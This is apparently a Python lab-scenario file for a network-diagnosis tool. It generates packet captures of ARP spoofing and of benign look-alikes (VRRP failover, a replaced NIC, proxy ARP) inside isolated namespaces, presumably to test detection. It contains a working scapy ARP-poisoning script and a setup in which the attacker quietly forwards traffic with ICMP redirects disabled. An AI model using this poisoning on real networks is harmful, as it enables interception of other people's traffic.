"""ARP claims of someone else's address: spoofing and its benign look-alikes.

`arp-spoofing` is the attack (scapy replies from the attacker, while every kernel reacts for
real); `vrrp-failover` (keepalived with a virtual MAC) and `nic-replaced` (a MAC that changes
once) must not look like it; `proxy-arp-two-packets` is a router's proxy answer for an address
that cannot be on the asker's link, in a capture of nothing else.
"""

from __future__ import annotations

import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from netwhy.lab.arp_scenarios import lan
from netwhy.lab.netns import Topology
from netwhy.lab.scenarios import (
    CLIENT,
    LOCAL_SERVER,
    REMOTE_SERVER,
    ROUTER_CLIENT_SIDE,
    ROUTER_SERVER_SIDE,
    scenario,
    segment,
)

ATTACKER = "192.0.2.66"
# Unsolicited replies "192.0.2.1 is at <the attacker's MAC>" to the victim, as arpspoof sends
# them: one every `gap` seconds.
POISON = """
import sys, time
from scapy.layers.l2 import ARP, Ether
from scapy.arch import get_if_hwaddr
from scapy.sendrecv import sendp
claimed, victim, victim_mac, count, gap = sys.argv[1:6]
mine = get_if_hwaddr("eth0")
reply = Ether(src=mine, dst=victim_mac) / ARP(
    op=2, hwsrc=mine, psrc=claimed, hwdst=victim_mac, pdst=victim)
for n in range(int(count)):
    sendp(reply, iface="eth0", verbose=False)
    time.sleep(float(gap))
"""

ROUTER_1, ROUTER_2 = "192.0.2.2", "192.0.2.3"  # the VRRP pair; 192.0.2.1 is the virtual address
BACK_1, BACK_2 = "203.0.113.2", "203.0.113.3"
KEEPALIVED = """global_defs {{
    router_id {name}
    vrrp_garp_master_delay 0
    vrrp_garp_master_repeat 2
}}
vrrp_instance gateway {{
    state {state}
    interface eth0
    virtual_router_id 7
    priority {priority}
    advert_int 1
    use_vmac
    virtual_ipaddress {{
        {vip}/24
    }}
}}
"""

PROXY_HOST = "10.1.2.11"
PROXY_ROUTER = "10.1.2.1"
BEYOND = "192.0.2.1"  # behind the router, on a network the host cannot share a link with


def mac_of(t: Topology, ns: str, ifname: str = "eth0") -> str:
    return t.run(ns, ["cat", f"/sys/class/net/{ifname}/address"]).stdout.strip()


def pings(t: Topology, ns: str, dst: str, count: int, interval: float = 0.5) -> None:
    t.run(ns, ["ping", "-n", "-c", str(count), "-i", str(interval), "-W", "1", dst],
          check=False)


@scenario(
    "arp-spoofing",
    "a victim pings a server behind its gateway; an attacker on the segment (forwarding, no "
    "redirects) sends unsolicited ARP replies claiming the gateway's address with its own MAC; "
    "the victim's pings then go to the attacker, which passes them on to the real gateway",
    conditions=("arp.spoofing",),
)
def arp_spoofing(out: Path) -> list[Path]:
    with Topology() as t:
        lan(t, "client", "router", "attacker")
        t.add_namespace("server")
        t.link("router", "eth1", "server", "eth0")
        t.address("client", "eth0", f"{CLIENT}/24")
        t.address("router", "eth0", f"{ROUTER_CLIENT_SIDE}/24")
        t.address("router", "eth1", f"{ROUTER_SERVER_SIDE}/24")
        t.address("server", "eth0", f"{REMOTE_SERVER}/24")
        t.address("attacker", "eth0", f"{ATTACKER}/24")
        for ns in ("client", "attacker"):
            t.route(ns, "default", ROUTER_CLIENT_SIDE)
        t.route("server", "default", ROUTER_SERVER_SIDE)
        t.enable_forwarding("router")
        # The attacker passes the victim's traffic on, quietly: no redirects give it away.
        t.enable_forwarding("attacker")
        for key in ("all", "eth0"):
            t.sysctl("attacker", f"net.ipv4.conf.{key}.send_redirects", "0")
        victim_mac = mac_of(t, "client")
        with t.capture("lan", "br0", out):
            pings(t, "client", REMOTE_SERVER, 2)
            time.sleep(1.2)  # past the victim's ARP locktime: the next reply overrides
            poison = t.start("attacker", [sys.executable, "-c", POISON, ROUTER_CLIENT_SIDE,
                                          CLIENT, victim_mac, "4", "1"])
            time.sleep(0.3)
            pings(t, "client", REMOTE_SERVER, 4)
            poison.wait(timeout=10)
    return [out]


class VrrpStates:
    """The VRRP states a keepalived daemon enters, read from its console log as it runs:
    start-up and failover take a few advertisement intervals, more on a loaded machine."""

    def __init__(self, daemon: subprocess.Popen[str]) -> None:
        self._entered: list[str] = []
        self._log: list[str] = []  # what it said, for the error if it never gets there
        self._changed = threading.Condition()
        threading.Thread(target=self._read, args=(daemon,), daemon=True).start()

    def _read(self, daemon: subprocess.Popen[str]) -> None:
        assert daemon.stdout is not None
        try:
            for line in daemon.stdout:
                self._log.append(line.rstrip())
                if "Entering" in line and "STATE" in line:
                    with self._changed:
                        self._entered.append(line.split("Entering", 1)[1].split()[0])
                        self._changed.notify_all()
        except (ValueError, OSError):
            return  # the daemon was stopped and its pipe closed under this thread

    def started(self, timeout: float = 10.0) -> bool:
        """Whether it entered any state in time (on Debian 13 a start now and then hangs
        before its first state, and a second start works)."""
        with self._changed:
            return self._changed.wait_for(lambda: bool(self._entered), timeout)

    def wait(self, state: str, timeout: float = 15.0) -> None:
        with self._changed:
            if not self._changed.wait_for(lambda: state in self._entered, timeout):
                raise RuntimeError(f"keepalived did not enter {state} within {timeout} s "
                                   f"(states so far: {', '.join(self._entered) or 'none'}; "
                                   f"its log ends: {' | '.join(self._log[-6:])})")


@scenario(
    "vrrp-failover",
    "two keepalived routers share the gateway 192.0.2.1 by VRRP with a virtual MAC "
    "(use_vmac); the client pings a server behind them, the master is stopped, and the backup "
    "takes over, announcing the virtual MAC by gratuitous ARP: no spoofing",
    conditions=("arp.gratuitous",),
)
def vrrp_failover(out: Path) -> list[Path]:
    with Topology() as t, tempfile.TemporaryDirectory(prefix="netwhy-vrrp-") as run_dir:
        lan(t, "client", "r1", "r2")
        t.add_namespace("back")
        t.bridge("back")
        t.add_namespace("server")
        for ns in ("r1", "r2", "server"):
            t.plug(ns, "eth1" if ns != "server" else "eth0", "back", port=ns)
        t.address("client", "eth0", f"{CLIENT}/24")
        t.address("r1", "eth0", f"{ROUTER_1}/24")
        t.address("r2", "eth0", f"{ROUTER_2}/24")
        t.address("r1", "eth1", f"{BACK_1}/24")
        t.address("r2", "eth1", f"{BACK_2}/24")
        t.address("server", "eth0", f"{REMOTE_SERVER}/24")
        t.route("client", "default", ROUTER_CLIENT_SIDE)
        # Replies go back through r1, whose kernel forwards whether keepalived runs or not.
        t.route("server", "default", BACK_1)
        daemons, states = {}, {}
        for ns, state, priority in (("r1", "MASTER", 200), ("r2", "BACKUP", 100)):
            t.enable_forwarding(ns)
            config = Path(run_dir) / f"{ns}.conf"
            config.write_text(KEEPALIVED.format(name=ns, state=state, priority=priority,
                                                vip=ROUTER_CLIENT_SIDE))
            for _ in range(3):
                daemons[ns] = t.start(ns, [
                    "/usr/sbin/keepalived", "--dont-fork", "--log-console", "--vrrp",
                    "--use-file", str(config), "--pid", f"{run_dir}/{ns}.pid",
                    "--vrrp_pid", f"{run_dir}/{ns}.vrrp.pid"])
                states[ns] = VrrpStates(daemons[ns])
                if states[ns].started():
                    break
                t.stop(daemons[ns])
                for pid_file in Path(run_dir).glob(f"{ns}.*pid"):
                    pid_file.unlink()
            else:
                raise RuntimeError(f"keepalived in {ns} entered no VRRP state in three starts")
        states["r1"].wait("MASTER")  # and announces the virtual MAC
        time.sleep(1)  # r2 hears it (its own start-up log differs between keepalived versions)
        with t.capture("lan", "br0", out):
            pings(t, "client", REMOTE_SERVER, 2)
            t.stop(daemons["r1"])  # priority 0 advertisement: r2 takes over
            states["r2"].wait("MASTER")
            time.sleep(1)  # its gratuitous ARPs (vrrp_garp_master_repeat)
            pings(t, "client", REMOTE_SERVER, 2)
    return [out]


@scenario(
    "nic-replaced",
    "the server's network card is replaced: its MAC changes once (interface down, new "
    "address, up) and the kernel announces it by gratuitous ARP (arp_notify=1); answered "
    "pings before and after, the old MAC never heard again",
    conditions=("arp.duplicate-ip", "arp.gratuitous"),
)
def nic_replaced(out: Path) -> list[Path]:
    with Topology() as t:
        segment(t)  # a plain veth pair: a bridge port would drop the announcement
        t.sysctl("server", "net.ipv4.conf.eth0.arp_notify", "1")
        with t.capture("client", "eth0", out):
            pings(t, "client", LOCAL_SERVER, 1)
            t.ip("server", "link", "set", "eth0", "down")
            t.ip("server", "link", "set", "eth0", "address", "02:00:00:00:20:02")
            t.ip("server", "link", "set", "eth0", "up")
            time.sleep(1)
            pings(t, "client", LOCAL_SERVER, 2)
    return [out]


@scenario(
    "proxy-arp-two-packets",
    "a host 10.1.2.11/24 with an on-link route to 192.0.2.1 ARPs for it; the router "
    "(proxy_arp=1) answers with its own MAC; captured with the filter 'arp': the two packets",
    conditions=("arp.proxy",),
)
def proxy_arp_two_packets(out: Path) -> list[Path]:
    with Topology() as t:
        for ns in ("host", "router", "far"):
            t.add_namespace(ns)
        t.link("host", "eth0", "router", "eth0")
        t.link("router", "eth1", "far", "eth0")
        t.address("host", "eth0", f"{PROXY_HOST}/24")
        t.address("router", "eth0", f"{PROXY_ROUTER}/24")
        t.address("router", "eth1", "192.0.2.254/24")
        t.address("far", "eth0", f"{BEYOND}/24")
        t.ip("host", "route", "add", f"{BEYOND}/32", "dev", "eth0")  # "it is on my wire"
        t.route("far", "default", "192.0.2.254")
        t.enable_forwarding("router")
        t.sysctl("router", "net.ipv4.conf.all.proxy_arp", "0")
        t.sysctl("router", "net.ipv4.conf.eth0.proxy_arp", "1")
        with t.capture("host", "eth0", out, capture_filter="arp"):
            pings(t, "host", BEYOND, 1)
    return [out]
